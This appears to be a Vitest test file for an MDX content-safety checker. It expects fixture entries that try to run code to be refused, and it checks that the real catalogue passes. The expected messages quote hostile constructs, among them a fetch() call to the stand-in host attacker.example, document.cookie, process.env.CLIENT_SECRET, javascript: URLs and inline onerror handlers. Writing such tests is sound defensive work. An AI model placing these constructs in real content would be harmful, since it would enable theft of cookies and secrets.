// The content check refuses MDX that could run code: one fixture entry per refused construct
// (tests/fixtures/content/unsafe), each otherwise valid, and the real catalogue passes.
import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import matter from "gray-matter";
import { unified } from "unified";
import remarkParse from "remark-parse";
import remarkMdx from "remark-mdx";
import remarkGfm from "remark-gfm";
import { beforeAll, describe, expect, it } from "vitest";
import { checkContent } from "@/lib/content/check-content.server";
import { formatProblem } from "@/lib/content/check";
import { checkMdxSafety } from "@/lib/content/mdx-safety";

const project = path.resolve(__dirname, "../../..");
const fixture = path.join(project, "tests/fixtures/content/unsafe");
const entriesDir = "content/entries/alpha";

/** Each fixture file, the line the construct sits on, and what the check must say there. */
const expected: Record<string, { line: number; says: string }> = {
  "process-env": { line: 13, says: "body: {process.env.CLIENT_SECRET} reads process (the server's environment): braces may hold only a literal" },
  "import-statement": { line: 9, says: "body: an import statement is not allowed: entries hold content only and import or export nothing" },
  "export-statement": { line: 9, says: "body: an export statement is not allowed" },
  "script-element": { line: 13, says: "body: <script> is not allowed: entries cannot embed scripts, styles, frames or plugins" },
  "iframe-element": { line: 13, says: "body: <iframe> is not allowed: entries cannot embed" },
  "object-element": { line: 13, says: "body: <object> is not allowed: entries cannot embed" },
  "embed-element": { line: 13, says: "body: <embed> is not allowed: entries cannot embed" },
  "style-element": { line: 13, says: "body: <style> is not allowed: entries cannot embed" },
  "event-handler-jsx": { line: 13, says: "body: onClick on <Callout> is an inline event handler: entries cannot run code, remove it" },
  "event-handler-html": { line: 13, says: "body: onerror on <img> is an inline event handler" },
  "javascript-link": { line: 13, says: "body: a link uses a javascript: URL: link only to https:, http:, mailto:, a relative path or a #anchor" },
  "javascript-href": { line: 13, says: "body: href on <a> uses a javascript: URL" },
  "call-fetch": { line: 13, says: 'body: {fetch("https://attacker.example/collect…} calls fetch()' },
  "global-this": { line: 13, says: "body: {globalThis.secret} reads globalThis" },
  "eval-call": { line: 13, says: 'body: {eval("1 + 1")} calls eval()' },
  "require-call": { line: 13, says: "calls require()" },
  "window-access": { line: 13, says: "body: {window.location.href} reads window" },
  "document-access": { line: 13, says: "body: {document.cookie} reads document" },
  "spread-attribute": { line: 13, says: 'body: <Callout> spreads {...props}: write each attribute as name="text"' },
  "expression-attribute": { line: 15, says: 'body: title={process.env.CAUSE_TITLE} on <Cause> reads process (the server\'s environment): write it as title="text"' },
};

let lines: string[] = [];

beforeAll(async () => {
  const result = await checkContent(fixture, { cacheDir: false });
  expect(result.ok).toBe(false);
  lines = result.ok ? [] : result.problems.map(formatProblem);
});

describe("the content check refuses MDX that could run code", () => {
  it("has an expectation for every fixture entry", async () => {
    const files = (await readdir(path.join(fixture, entriesDir))).filter((name) => name.endsWith(".mdx"));
    expect(files.map((name) => path.basename(name, ".mdx")).sort()).toEqual(Object.keys(expected).sort());
  });

  it.each(Object.entries(expected))("%s.mdx is refused at its line, saying what to do", (slug, { line, says }) => {
    const where = `${entriesDir}/${slug}.mdx:${line}: `;
    expect(lines.filter((text) => text.startsWith(where) && text.includes(says)), lines.join("\n")).toHaveLength(1);
  });

  it("reports a bundler error for none of them: unsafe entries never reach the bundler", () => {
    expect(lines.filter((text) => text.includes(": mdx: "))).toEqual([]);
  });
});

describe("the real catalogue", () => {
  it("uses only what the MDX safety rules allow", async () => {
    const root = path.join(project, "content/entries");
    const files = (await readdir(root, { recursive: true })).filter((name) => name.endsWith(".mdx")).sort();
    expect(files.length).toBeGreaterThan(0);
    const parser = unified().use(remarkParse).use(remarkMdx).use(remarkGfm);
    const found: string[] = [];
    for (const file of files) {
      const { content } = matter(await readFile(path.join(root, file), "utf8"));
      for (const problem of checkMdxSafety(parser.parse(content))) found.push(`${file}: ${problem.message}`);
    }
    expect(found).toEqual([]);
  });
});
